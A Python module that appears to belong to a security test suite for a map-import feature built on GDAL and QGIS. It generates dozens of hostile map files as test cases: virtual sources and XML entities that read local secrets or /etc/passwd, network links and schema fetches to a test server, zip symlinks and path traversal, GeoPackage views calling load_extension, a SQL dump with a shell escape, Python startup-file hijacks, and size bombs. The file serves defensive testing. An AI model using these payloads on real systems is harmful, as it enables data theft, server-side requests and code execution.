"""Attacks by files that are given as maps: virtual sources, markup that asks for more, containers, neighbours."""

from __future__ import annotations

import io
import json
import zipfile

from .attack import CANCEL, EVIL, FACTION_DATA, OWN, WKT, Site, attack, geojson, gml, gpx, kml, vrt

MAPS = ("folder", "preview")
ENDINGS = ("kml", "gml", "gpx", "geojson", "json", "gpkg", "shp", "fgb")


def _reading_secret(site: Site) -> str:
    return vrt(str(site.secret), layer="secret")


def _asking(site: Site, name: str = "x.geojson") -> str:
    return vrt(f"/vsicurl/{site.url(name)}")


# Virtual sources


def _vrt_under(ending: str):
    return lambda site: site.write(f"2017-10-01.{ending}", _reading_secret(site))


for _ending in ENDINGS:
    attack(
        "virtual", f"vrt-{_ending}", f"a virtual source as .{_ending} that reads a table of the analyst",
        "folder", "file", reads=False, words="2017-10-01",
    )(_vrt_under(_ending))  # fmt: skip


@attack("virtual", "vrt-preview", "the same, looked at before Import is pressed", "preview", "drop", "zip", "pattern")
def _(site):
    return site.write("2017-10-01.kml", _reading_secret(site))


@attack("virtual", "vrt-batch", "the same in batch, model and as the toolbox's INPUT", "batch", "batch_input", "model")
def _(site):
    return site.write("2017-10-01.gml", _reading_secret(site))


@attack("virtual", "vrt-own-ending", "the same under its own ending, named by the user", "file", reads=False)
def _(site):
    return site.write("2017-10-01.vrt", _reading_secret(site))


@attack("virtual", "vrt-utf16", "a virtual source in UTF-16", *MAPS, reads=False)
def _(site):
    return site.write("2017-10-01.kml", "\ufeff" + _reading_secret(site), "utf-16-le")


@attack("virtual", "vrt-bom", "a virtual source behind a byte order mark and blanks", *MAPS, reads=False)
def _(site):
    return site.write("2017-10-01.gml", "\ufeff\n\n " + _reading_secret(site))


@attack("virtual", "vrt-prolog", "a virtual source behind a declaration, a comment and a document type", *MAPS)
def _(site):
    before = '<?xml version="1.0"?><!-- <kml> --><!DOCTYPE OGRVRTDataSource>'
    return site.write("2017-10-01.kml", before + _reading_secret(site))


@attack("virtual", "vrt-in-comment", "a KML map with a virtual source in a comment", *MAPS, reads=True)
def _(site):
    return site.write("2017-10-01.kml", kml(f"<!-- {_reading_secret(site)} -->"))


@attack("virtual", "vrt-curl", "a virtual source that fetches from a server", *MAPS, "file", reads=False)
def _(site):
    return site.write("2017-10-01.geojson", _asking(site))


@attack("virtual", "vrt-write", "a virtual source whose SQL writes a file where Python starts", "folder", "preview")
def _(site):
    site.at("data.gpkg").parent.mkdir(parents=True, exist_ok=True)
    site.gpkg("data.sqlite")
    target = site.home / "usercustomize.py"
    return site.write("2017-10-01.kml", vrt(str(site.at("data.sqlite")), f"VACUUM INTO '{target}'"))


@attack("virtual", "vrt-attach", "a virtual source whose SQL attaches a database in the home folder", *MAPS)
def _(site):
    site.gpkg("data.sqlite")
    sql = f"ATTACH DATABASE '{site.home / 'startup.db'}' AS x"
    return site.write("2017-10-01.kml", vrt(str(site.at("data.sqlite")), sql))


@attack("virtual", "vrt-sqlite-dialect", "a virtual source in SQLite's dialect", *MAPS)
def _(site):
    sql = f"SELECT * FROM '{site.secret}'.secret"
    return site.write("2017-10-01.kml", vrt(str(site.secret), sql, attributes=' dialect="SQLITE"'))


@attack("virtual", "vrt-geocode", "a virtual source that asks a geocoder", *MAPS)
def _(site):
    sql = f"SELECT *, ogr_geocode('x', 'geometry', 'QUERY_TEMPLATE={site.url('geocode')}?q=%s') FROM '2017-09-01'"
    source = str(site.folder / "2017-09-01.geojson")
    return site.write("2017-10-01.kml", vrt(source, sql, attributes=' dialect="SQLITE"'))


@attack("virtual", "vrt-warped", "a virtual source in a virtual source in a virtual source", *MAPS)
def _(site):
    inner = f"<OGRVRTWarpedLayer><OGRVRTLayer name='secret'><SrcDataSource>{site.secret}</SrcDataSource></OGRVRTLayer>"
    return site.write(
        "2017-10-01.kml",
        f"<OGRVRTDataSource>{inner}<TargetSRS>EPSG:4326</TargetSRS></OGRVRTWarpedLayer></OGRVRTDataSource>",
    )


@attack("virtual", "raster-vrt", "a virtual raster as a map", *MAPS, reads=False)
def _(site):
    band = f"<SourceFilename>/vsicurl/{site.url('x.tif')}</SourceFilename>"
    text = f'<VRTDataset rasterXSize="2" rasterYSize="2"><VRTRasterBand dataType="Byte" band="1"><SimpleSource>{band}'
    return site.write("2017-10-01.gml", f"{text}</SimpleSource></VRTRasterBand></VRTDataset>")


@attack("virtual", "wfs-gml", "a description of a web feature service as .gml", *MAPS, "file", reads=False)
def _(site):
    return site.write("2017-10-01.gml", f"<OGRWFSDataSource><URL>{site.url('wfs')}</URL></OGRWFSDataSource>")


@attack("virtual", "csw-xml", "a description of a catalogue service", *MAPS, reads=False)
def _(site):
    return site.write("2017-10-01.gml", f"<OGRCSWDataSource><URL>{site.url('csw')}</URL></OGRCSWDataSource>")


@attack("virtual", "wfs-capabilities", "capabilities of a service as .gml", *MAPS, reads=False)
def _(site):
    url = site.url("wfs")
    get = f'<ows:Get xlink:href="{url}"/>'
    return site.write(
        "2017-10-01.gml",
        '<WFS_Capabilities version="1.1.0" xmlns:ows="http://www.opengis.net/ows" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><ows:HTTP>{get}</ows:HTTP><FeatureTypeList><FeatureType>'
        "<Name>x</Name></FeatureType></FeatureTypeList></WFS_Capabilities>",
    )


@attack("virtual", "wms-gdal", "a description of a web map service", *MAPS, reads=False)
def _(site):
    service = f'<Service name="WMS"><ServerUrl>{site.url("wms")}?</ServerUrl></Service>'
    return site.write("2017-10-01.gml", f"<GDAL_WMS>{service}</GDAL_WMS>")


@attack("virtual", "esri-service", "JSON of a feature service with more pages elsewhere", *MAPS)
def _(site):
    rows = [{"attributes": {"faction": OWN}, "geometry": {"rings": [[[36, 35], [37, 35], [37, 36], [36, 35]]]}}]
    more = {"exceededTransferLimit": True, "geometryType": "esriGeometryPolygon", "url": site.url("FeatureServer/0")}
    return site.write("2017-10-01.json", json.dumps({**more, "features": rows}))


@attack("virtual", "stac", "a page of a web interface with links to the next page", *MAPS)
def _(site):
    links = [{"rel": "next", "href": site.url("next"), "type": "application/geo+json"}]
    return site.map("2017-10-01.geojson", links=links, conformsTo=["http://www.opengis.net/spec/ogcapi-features-1"])


@attack("virtual", "text-address", "a map whose text is an address, a database, a path", "folder", keeps=True)
def _(site):
    port = site.listener.raw_port
    texts = (
        site.url(),
        f"PG:host=127.0.0.1 port={port}",
        f"/vsicurl/{site.url()}",
        str(site.secret),
        "WFS:" + site.url(),
    )
    for number, text in enumerate(texts):
        site.write(f"2017-11-0{number + 1}.geojson", text)


@attack("virtual", "names-that-open", "files named as GDAL names what it opens elsewhere", "folder", "preview", "zip")
def _(site):
    for name in ("PG:host=127.0.0.1.geojson", "GeoJSON:x.geojson", "vsicurl_streaming.geojson", "{x}.geojson"):
        site.map(f"2017-10-01 {name}")
    site.map("2017-10-02|layername=secret.geojson")
    site.map("2017-10-03|option:X=Y.geojson")


@attack("virtual", "folder-named-vsi", "folders named vsicurl, vsizip and http:", "folder", "preview", reads=True)
def _(site):
    for name in ("vsicurl", "vsizip", "http:"):
        site.map(f"{name}/2017-10-01.geojson")


@attack("virtual", "path-vsicurl", "a path in /vsicurl/ to paste", "text", reads=False)
def _(site):
    return f"/vsicurl/{site.url('x.geojson')}"


@attack("virtual", "path-vsi-others", "a path of other virtual file systems to paste", "text", reads=False)
def _(site):
    return f"/vsizip//vsicurl/{site.url('x.zip')}"


@attack("virtual", "path-service", "the address of a service to paste", "text", reads=False)
def _(site):
    return f"WFS:{site.url('wfs')}"


@attack("virtual", "path-vrt-inline", "XML of a virtual source to paste as a path", "text", reads=False)
def _(site):
    return _reading_secret(site)


@attack("virtual", "gmlas", "a path of the driver that reads any schema", "text", reads=False)
def _(site):
    return f"GMLAS:{site.url('x.gml')}"


# Markup that asks for more


@attack("markup", "geojson-crs-link", "GeoJSON whose CRS is a link", *MAPS, "file", "batch", "zip", "drop")
def _(site):
    return site.map(crs={"type": "link", "properties": {"href": site.url("crs"), "type": "ogcwkt"}})


@attack("markup", "geojson-crs-flat-link", "the same, with the address beside the type", *MAPS, "file")
def _(site):
    return site.map(crs={"type": "link", "href": site.url("crs")})


@attack("markup", "geojson-crs-url", "GeoJSON whose CRS has an address for its name", *MAPS)
def _(site):
    return site.map(crs={"type": "name", "properties": {"name": site.url("crs")}})


@attack("markup", "geojson-crs-path", "GeoJSON whose CRS is a path", *MAPS)
def _(site):
    return site.map(crs={"type": "link", "properties": {"href": str(site.home / "secret.txt"), "type": "ogcwkt"}})


@attack("markup", "geojson-crs-large", "a link for a CRS in GeoJSON too large to be read as a text", "file")
def _(site):
    return site.map(crs={"type": "link", "properties": {"href": site.url("crs")}}, padding="x" * (33 << 20))


@attack("markup", "geojson-geometry-crs", "a link for a CRS in a geometry and a row", *MAPS)
def _(site):
    text = geojson({"faction": OWN})
    link = json.dumps({"type": "link", "properties": {"href": site.url("crs")}})
    return site.write("2017-10-01.geojson", text.replace('"type": "Polygon"', f'"crs": {link}, "type": "Polygon"'))


@attack("markup", "gml-schema", "GML with a schema on a server", *MAPS, "file", "batch", "zip")
def _(site):
    location = f'xsi:schemaLocation="http://x {site.url("x.xsd")}" xmlns="http://x"'
    return site.write("2017-10-01.gml", gml(location))


@attack("markup", "gml-schema-local", "GML with a schema in the analyst's home", *MAPS)
def _(site):
    location = f'xsi:schemaLocation="http://x file://{site.home}/secret.txt" xmlns="http://x"'
    return site.write("2017-10-01.gml", gml(location))


@attack("markup", "gml-schema-include", "GML beside a schema that includes one on a server", *MAPS)
def _(site):
    include = f'<xs:include schemaLocation="{site.url("x.xsd")}"/><xs:import schemaLocation="{site.url("y.xsd")}"/>'
    site.write("2017-10-01.xsd", f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">{include}</xs:schema>')
    return site.write("2017-10-01.gml", gml())


@attack("markup", "gml-xlink", "GML whose members are links to a server", *MAPS)
def _(site):
    more = (
        f'<gml:featureMember xlink:href="{site.url("m.gml")}"/><gml:featureMember><m><gml:polygonProperty xlink:href='
    )
    return site.write("2017-10-01.gml", gml(more=f'{more}"{site.url("p.gml")}#x"/></m></gml:featureMember>'))


@attack("markup", "gml-srs", "GML whose reference system is an address", *MAPS)
def _(site):
    return site.write(
        "2017-10-01.gml", gml().replace("<gml:Polygon>", f'<gml:Polygon srsName="{site.url("epsg.xml")}">')
    )


@attack("markup", "gml-gfs", "GML beside a .gfs with a class of another file", *MAPS)
def _(site):
    path = f"<ElementPath>{site.home}/secret.txt</ElementPath><SRSName>{site.url('srs')}</SRSName>"
    site.write("2017-10-01.gfs", f"<GMLFeatureClassList><GMLFeatureClass><Name>m</Name>{path}</GMLFeatureClass>")
    return site.write("2017-10-01.gml", gml())


@attack("markup", "gml-resolved", "GML beside a file of GDAL's for resolved links", *MAPS)
def _(site):
    site.write("2017-10-01.resolved.gml", gml(more=f'<gml:featureMember xlink:href="{site.url()}"/>'))
    return site.write("2017-10-01.gml", gml())


@attack("markup", "xml-entities", "KML with entities of a file and a server", *MAPS)
def _(site):
    entities = f'<!ENTITY a SYSTEM "file://{site.home}/secret.txt"><!ENTITY % b SYSTEM "{site.url("b.dtd")}"> %b;'
    return site.write("2017-10-01.kml", kml("<name>&a;</name>", f"<!DOCTYPE kml [{entities}]>"))


@attack("markup", "xml-doctype", "KML and GML whose document type is on a server", *MAPS)
def _(site):
    doctype = (
        f'<!DOCTYPE kml SYSTEM "{site.url("kml.dtd")}"><?xml-stylesheet href="{site.url("x.xsl")}" type="text/xsl"?>'
    )
    site.write("2017-10-02.gml", gml(before=doctype.replace("kml SYSTEM", "gml SYSTEM")))
    return site.write("2017-10-01.kml", kml(before=doctype))


@attack("markup", "xinclude", "KML and GML that include a file by XInclude", *MAPS)
def _(site):
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{site.home}/secret.txt" parse="text"/>'
    )
    site.write("2017-10-02.gml", gml(more=include))
    return site.write("2017-10-01.kml", kml(include))


@attack("markup", "kml-network-link", "KML with network links", *MAPS, "file", "batch", "zip", reads=True)
def _(site):
    links = "".join(
        f"<NetworkLink><name>x</name><{tag}><href>{site.url(tag)}</href><refreshMode>onInterval</refreshMode></{tag}>"
        "</NetworkLink>" for tag in ("Link", "Url")
    )  # fmt: skip
    return site.write(
        "2017-10-01.kml", kml(links + f"<NetworkLinkControl><message>{EVIL}</message></NetworkLinkControl>")
    )


@attack("markup", "kml-overlays", "KML with overlays, icons, models and styles on a server", *MAPS, "batch", reads=True)
def _(site):
    icon = f"<Icon><href>{site.url('i.png')}</href></Icon>"
    parts = (
        f"<GroundOverlay>{icon}</GroundOverlay><ScreenOverlay>{icon}</ScreenOverlay><PhotoOverlay>{icon}</PhotoOverlay>"
        f"<Style id='a'><IconStyle>{icon}</IconStyle><BalloonStyle><text><![CDATA[<script src='{site.url('j')}'></script>"
        f"<img src='{site.url('k')}'>]]></text></BalloonStyle></Style><StyleMap id='b'><Pair><key>normal</key>"
        f"<styleUrl>{site.url('s.kml')}#a</styleUrl></Pair></StyleMap>"
    )
    return site.write(
        "2017-10-01.kml", kml(parts, style=f"<styleUrl>{site.url('t.kml')}#a</styleUrl>{FACTION_DATA.format(OWN)}")
    )


@attack("markup", "kml-schema-url", "KML whose data name a schema on a server", *MAPS, reads=None)
def _(site):
    data = f'<ExtendedData><Data name="faction"><value>{OWN}</value></Data><SchemaData schemaUrl="{site.url("s.kml")}#x"><SimpleData name="a">b</SimpleData></SchemaData>'
    return site.write("2017-10-01.kml", kml(style=f"{data}</ExtendedData>"))


@attack("markup", "kml-style-local", "KML whose style is in a file of the analyst", *MAPS, reads=True)
def _(site):
    return site.write(
        "2017-10-01.kml", kml(style=f"<styleUrl>file:///etc/passwd#x</styleUrl>{FACTION_DATA.format(OWN)}")
    )


@attack("markup", "gpx-links", "GPX with links and a schema on a server", "movements")
def _(site):
    link = f'<metadata><link href="{site.url("l")}"/></metadata>'
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {site.url("gpx.xsd")}"'
    return site.write("track.gpx", gpx(link, schema))


@attack("markup", "svg", "an SVG picture as a map", "folder", "preview", "file", reads=False)
def _(site):
    image = f'<image xlink:href="{site.url("i.png")}"/><script href="{site.url("j.js")}"/>'
    text = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{image}</svg>'
    return site.write("2017-10-01.svg", text)


@attack("markup", "georss", "a feed of GeoRSS with links", *MAPS)
def _(site):
    item = f"<item><title>{OWN}</title><link>{site.url()}</link><georss:polygon>35 36 35 37 36 37 35 36</georss:polygon></item>"
    rss = '<rss version="2.0" xmlns:georss="http://www.georss.org/georss"><channel>'
    return site.write("2017-10-01.xml", f"{rss}{item}</channel></rss>")


@attack("markup", "mapml", "MapML with links", *MAPS)
def _(site):
    text = f'<mapml xmlns="http://www.w3.org/1999/xhtml"><head><link href="{site.url()}" rel="next"/></head><body/></mapml>'
    return site.write("2017-10-01.mapml", text)


@attack("markup", "topojson", "TopoJSON and JSON of other kinds with addresses", *MAPS)
def _(site):
    site.write(
        "2017-10-02.json", json.dumps({"$schema": site.url("schema"), "type": "FeatureCollection", "features": []})
    )
    objects = {"x": {"type": "GeometryCollection", "geometries": []}}
    return site.write("2017-10-01.topojson", json.dumps({"type": "Topology", "href": site.url(), "objects": objects}))


# Neighbours of a map


@attack("neighbours", "prj-url", "a Shapefile whose .prj is an address", *MAPS, keeps=True)
def _(site):
    from osgeo import gdal, ogr

    dataset = gdal.GetDriverByName("ESRI Shapefile").Create(str(site.at("2017-10-01.shp")), 0, 0, 0, gdal.GDT_Unknown)
    layer = dataset.CreateLayer("2017-10-01", None, ogr.wkbPolygon)
    layer.CreateField(ogr.FieldDefn("faction", ogr.OFTString))
    feature = ogr.Feature(layer.GetLayerDefn())
    feature["faction"] = OWN
    feature.SetGeometry(ogr.CreateGeometryFromWkt(WKT))
    layer.CreateFeature(feature)
    feature = layer = dataset = None
    site.write("2017-10-01.prj", site.url("epsg.prj"))
    site.write("2017-10-01.cpg", f"{site.home}/secret.txt")
    return "2017-10-01.shp"


@attack("neighbours", "prj-path", "a Shapefile whose .prj includes another file", *MAPS)
def _(site):
    from osgeo import gdal

    text = geojson({"faction": OWN})
    gdal.VectorTranslate(str(site.at("2017-10-01.shp")), text, format="ESRI Shapefile")
    site.write("2017-10-01.prj", f"EPSGA:{site.home}/secret.txt")
    site.write("2017-10-01.shp.xml", f"<metadata><a href='{site.url()}'/></metadata>")
    site.write("2017-10-01.qix", "x")
    return "2017-10-01.shp"


@attack("neighbours", "csv-vrt", "a CSV beside a virtual source of its name", "movements", "events")
def _(site):
    site.write("m.vrt", _reading_secret(site))
    site.write("m.csvt", '"WKT","String"')
    site.write("m.prj", site.url("prj"))
    return site.write("m.csv", "date,side_a,side_b,lon,lat\n2017-10-01,GOV,OPP,36,35\n")


@attack("neighbours", "aux-xml", "GeoJSON beside metadata of GDAL with a virtual source", *MAPS, reads=True)
def _(site):
    site.write("2017-10-01.geojson.aux.xml", f"<PAMDataset><SRS>{site.url()}</SRS></PAMDataset>")
    site.write("2017-10-01.geojson.ovr", _reading_secret(site))
    return site.map()


@attack(
    "neighbours",
    "qgis-files",
    "projects, layer definitions, styles, scripts and settings in the folder",
    *MAPS,
    "batch",
    reads=True,
)
def _(site):
    ran = f"open({str(site.home / 'ran')!r}, 'w')"
    for name in (
        "startup.py",
        "numpy.py",
        "shapely.py",
        "osgeo.py",
        "sitecustomize.py",
        "conftest.py",
        "2017-10-01.py",
    ):
        site.write(name, ran)
    expression = f"[% eval('{site.url()}') %]"
    site.write("2017-10-01.qml", f'<!DOCTYPE qgis><qgis><label url="{site.url("q")}">{expression}</label></qgis>')
    site.write(
        "2017-10-01.qgs",
        f"<qgis><projectlayers><maplayer><datasource>{site.url()}</datasource></maplayer></projectlayers></qgis>",
    )
    site.write("2017-10-01.qlr", f"<qlr><datasource>/vsicurl/{site.url()}</datasource></qlr>")
    site.write("2017-10-01.qgz", b"PK\5\6" + b"\0" * 18)
    site.write("gdalrc", "[configoptions]\nGDAL_DRIVER_PATH=.\n")
    site.write("osmconf.ini", "[general]\n")
    site.write("2017-10-01.desktop", "[Desktop Entry]\nExec=true\n")
    return site.map()


@attack("neighbours", "tab", "a MapInfo table that refers to another file", *MAPS, "file")
def _(site):
    return site.write(
        "2017-10-01.tab",
        f'!table\n!version 300\nDefinition Table\n  File "{site.home}/secret.csv"\n  Type NATIVE Charset "WindowsLatin1"\n'
        "  Fields 1\n    faction Char (50) ;\n",
    )


@attack("neighbours", "tab-view", "a MapInfo view over tables elsewhere", *MAPS)
def _(site):
    view = f'create view x as\nSelect "faction"\nFrom "{site.home}/secret", "{site.home}/secret"\n'
    return site.write("2017-10-01.tab", f'!table\n!version 100\nopen table "{site.home}/secret.tab" Hide\n{view}')


@attack("neighbours", "mif", "a MapInfo exchange file that names its table elsewhere", *MAPS)
def _(site):
    head = 'Version 300\nCharset "WindowsLatin1"\nDelimiter ","\nColumns 1\n  faction Char(20)\nData\n'
    site.write("2017-10-01.mid", f'"{OWN}"\n')
    return site.write("2017-10-01.mif", f"{head}Region 1\n4\n36 35\n37 35\n37 36\n36 35\n")


@attack("neighbours", "dxf", "a DXF drawing with references to other files", *MAPS, "file")
def _(site):
    lines = [
        "0",
        "SECTION",
        "2",
        "BLOCKS",
        "0",
        "BLOCK",
        "2",
        "x",
        "70",
        "4",
        "1",
        str(site.home / "secret.txt"),
        "0",
        "ENDBLK",
    ]
    return site.write("2017-10-01.dxf", "\n".join([*lines, "0", "ENDSEC", "0", "EOF"]))


@attack("neighbours", "pdf", "a PDF with JavaScript and an action as a map", *MAPS, "file", reads=False)
def _(site):
    actions = f"<< /S /URI /URI ({site.url()}) >> << /S /JavaScript /JS (app.launchURL('{site.url()}')) >>"
    return site.write("2017-10-01.pdf", f"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction {actions} >> endobj\n%%EOF")


@attack("neighbours", "osm-pbf", "OpenStreetMap XML, S-57, NetCDF and other formats that no map has", *MAPS)
def _(site):
    site.write("2017-10-02.osm", f'<osm version="0.6" generator="{site.url()}"><changeset/></osm>')
    site.write("2017-10-03.000", b"\x00" * 100)
    site.write("2017-10-04.nc", b"CDF\x01" + b"\xff" * 64)
    site.write("2017-10-05.mbtiles", b"SQLite format 3\x00" + b"\xff" * 100)
    return site.write("2017-10-01.jml", f"<JCSDataFile><GMLInputTemplate>{site.url()}</GMLInputTemplate></JCSDataFile>")


@attack("neighbours", "pgdump", "a database dump with commands", "folder", "file")
def _(site):
    return site.write("2017-10-01.sql", f"\\! touch {site.home}/ran\nCREATE TABLE x (a text);\n")


# Containers


@attack("containers", "zip-links", "a zip with symbolic links out of it", "folder", "preview", "batch")
def _(site):
    with zipfile.ZipFile(site.at("maps.zip"), "w") as archive:
        link = zipfile.ZipInfo("2017-10-01.geojson")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, str(site.secret))
        archive.writestr("2017-10-02.geojson", geojson({"faction": OWN}))


@attack(
    "containers",
    "zip-vrt",
    "a zip with virtual sources, services and links in it",
    "folder",
    "preview",
    "file",
    "batch",
)
def _(site):
    members = {
        "2017-10-01.kml": _reading_secret(site),
        "2017-10-02.gml": _asking(site),
        "2017-10-03.geojson": geojson({"faction": OWN}, crs={"type": "link", "properties": {"href": site.url("z")}}),
        "2017-10-04.gml": gml(f'xsi:schemaLocation="http://x {site.url("z.xsd")}"'),
    }
    return site.zip("maps.zip", members)


@attack("containers", "zip-names", "a zip whose members are named as paths, addresses and options", "folder", "preview")
def _(site):
    text = geojson({"faction": OWN})
    names = ("}/2017-10-01.geojson", "/vsicurl/http:/127.0.0.1/2017-10-02.geojson", "{x}/2017-10-03.geojson", "..\\2017-10-04.geojson",
             "2017-10-05.geojson\n", "2017-10-06|layername=x.geojson", "\u202enosjoeg.2017-10-07.geojson")  # fmt: skip
    return site.zip("maps.zip", dict.fromkeys(names, text))


@attack("containers", "kmz", "a KMZ whose members lead out of it, with links", *MAPS, "file")
def _(site):
    picture = "<GroundOverlay><Icon><href>../../../secret.txt</href></Icon></GroundOverlay>"
    link = f"<NetworkLink><Link><href>{site.url('kmz')}</href></Link></NetworkLink>"
    return site.zip("2017-10-01.kmz", {"doc.kml": kml(picture + link), "../../evil.kml": kml(faction=EVIL)})


@attack("containers", "kmz-vrt", "a KMZ whose document is a virtual source", *MAPS, "file")
def _(site):
    return site.zip("2017-10-01.kmz", {"doc.kml": _reading_secret(site)})


@attack("containers", "zip-as-others", "a zip under the endings of maps", *MAPS)
def _(site):
    for number, ending in enumerate(("gpkg", "shp", "geojson", "gml"), 1):
        site.zip(f"2017-10-0{number}.{ending}", {"x.vrt": _reading_secret(site)})
    return "2017-10-01.gpkg"


@attack("containers", "shz", "a zipped Shapefile with a virtual source in it", *MAPS)
def _(site):
    return site.zip("2017-10-01.shz", {"x.vrt": _reading_secret(site), "../y.shp": b"x"})


@attack(
    "containers", "gpkg-view", "a GeoPackage with views, triggers, virtual tables and generated columns", *MAPS, "batch"
)
def _(site):
    views = (
        "CREATE VIEW evil AS SELECT fid + 100 AS fid, geom, load_extension('/tmp/x') AS faction FROM map",
        "INSERT INTO gpkg_contents (table_name, identifier, data_type, srs_id) VALUES ('evil', 'evil', 'features', 4326)",
        "INSERT INTO gpkg_geometry_columns VALUES ('evil', 'geom', 'POLYGON', 4326, 0, 0)",
        "CREATE TRIGGER t AFTER INSERT ON map BEGIN DELETE FROM gpkg_contents; END",
        "ALTER TABLE map ADD COLUMN g GENERATED ALWAYS AS (hex(faction))",
    )
    return site.gpkg("2017-10-01.gpkg", *views)


@attack("containers", "gpkg-ogr-functions", "a GeoPackage whose view calls GDAL's functions", *MAPS)
def _(site):
    calls = f"ogr_geocode('x', 'geometry', 'QUERY_TEMPLATE={site.url('geo')}?q=%s')"
    views = (
        f"CREATE VIEW evil AS SELECT fid + 100 AS fid, geom, {calls} AS faction FROM map",
        "INSERT INTO gpkg_contents (table_name, identifier, data_type, srs_id) VALUES ('evil', 'evil', 'features', 4326)",
        "INSERT INTO gpkg_geometry_columns VALUES ('evil', 'geom', 'POLYGON', 4326, 0, 0)",
    )
    return site.gpkg("2017-10-01.gpkg", *views)


@attack("containers", "gpkg-endless-view", "a GeoPackage with a view that never ends", *MAPS, **CANCEL)
def _(site):
    rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS fid, NULL AS geom, 'x' AS faction FROM n"
    views = (
        f"CREATE VIEW evil AS {rows}",
        "INSERT INTO gpkg_contents (table_name, identifier, data_type, srs_id) VALUES ('evil', 'evil', 'features', 4326)",
        "INSERT INTO gpkg_geometry_columns VALUES ('evil', 'geom', 'POLYGON', 4326, 0, 0)",
    )
    return site.gpkg("2017-10-01.gpkg", *views)


@attack(
    "containers",
    "gpkg-styles",
    "a GeoPackage map with a stored style and metadata that ask a server",
    *MAPS,
    "batch",
    keeps=False,
)
def _(site):
    style = f"<qgis><layer><prop k=''name'' v=''{site.url('s.svg')}''/></layer></qgis>"
    return site.gpkg(
        "2017-10-01.gpkg",
        "CREATE TABLE layer_styles (id INTEGER PRIMARY KEY, f_table_catalog TEXT, f_table_schema TEXT, f_table_name TEXT,"
        " f_geometry_column TEXT, styleName TEXT, styleQML TEXT, styleSLD TEXT, useAsDefault BOOLEAN, description TEXT)",
        f"INSERT INTO layer_styles VALUES (1, '', '', 'map', 'geom', 'x', '{style}', '', 1, '')",
        "INSERT INTO gpkg_contents (table_name, identifier, data_type) VALUES ('layer_styles', 'layer_styles', 'attributes')",
    )


@attack("containers", "gpkg-srs", "a GeoPackage whose reference system is an address", *MAPS)
def _(site):
    return site.gpkg("2017-10-01.gpkg", f"UPDATE gpkg_spatial_ref_sys SET definition = '{site.url()}', organization = 'x', srs_id = 77 WHERE srs_id = 4326",
                     "UPDATE gpkg_contents SET srs_id = 77", "UPDATE gpkg_geometry_columns SET srs_id = 77")  # fmt: skip


@attack("containers", "sqlite", "a SpatiaLite file with virtual tables on other files", *MAPS, "file")
def _(site):
    site.gpkg("2017-10-01.gpkg")
    site.at("2017-10-01.gpkg").rename(site.at("2017-10-01.sqlite"))
    site.sql(
        "2017-10-01.sqlite",
        "PRAGMA writable_schema = ON",
        f"INSERT INTO sqlite_master VALUES ('table', 'v', 'v', 0, 'CREATE VIRTUAL TABLE v USING VirtualOGR(''{site.secret}'')')",
    )
    return "2017-10-01.sqlite"


@attack("containers", "xlsx", "a workbook with entities and links to other workbooks", "movements", "events", "reports")
def _(site):
    sheet = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>'
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{rels}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    links = f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{rels}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{rels}/externalLink" TargetMode="External" Target="{site.url("book.xlsx")}"/></Relationships>'
    return site.zip("table.xlsx", {"xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": links, "xl/worksheets/sheet1.xml": sheet,
                                   "[Content_Types].xml": "<Types/>"})  # fmt: skip


@attack("containers", "ods", "a spreadsheet with macros, formulas and links", "movements", "events", "reports")
def _(site):
    formula = f"of:=WEBSERVICE(&quot;{site.url('w')}&quot;)"
    cell = (
        f'<table:table-cell table:formula="{formula}" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    )
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        f'<office:body><office:spreadsheet><table:table table:name="s"><table:table-row>{cell}</table:table-row></table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    members = {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": content,
        "Basic/x.xml": "<macro/>",
    }
    return site.zip("table.ods", members)


@attack("containers", "fgb-lies", "a FlatGeobuf whose header claims gigabytes", *MAPS, "file", reads=False)
def _(site):
    return site.write("2017-10-01.fgb", b"fgb\x03fgb\x01" + (0x7FFFFFF0).to_bytes(4, "little") + b"\x00" * 64)


@attack("containers", "shp-lies", "a Shapefile whose header claims gigabytes", *MAPS, "file", reads=False)
def _(site):
    head = (9994).to_bytes(4, "big") + b"\0" * 20 + (0x7FFFFFFF).to_bytes(4, "big") + (1000).to_bytes(4, "little")
    site.write(
        "2017-10-01.shx", head + (5).to_bytes(4, "little") + b"\0" * 64 + (b"\0\0\0\x32" + b"\x3f\xff\xff\xff") * 20
    )
    return site.write(
        "2017-10-01.shp", head + (5).to_bytes(4, "little") + b"\0" * 64 + (b"\0\0\0\1" + b"\x3f\xff\xff\xff") * 20
    )


def nested_zip(content: bytes, levels: int) -> bytes:
    """A zip in a zip in a zip."""
    for level in range(levels):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            archive.writestr(f"{level}.zip", content)
        content = made.getvalue()
    return content


@attack("containers", "zip-nested", "a zip forty levels deep", "folder", "preview")
def _(site):
    return site.write("maps.zip", nested_zip(geojson({"faction": OWN}).encode(), 40))


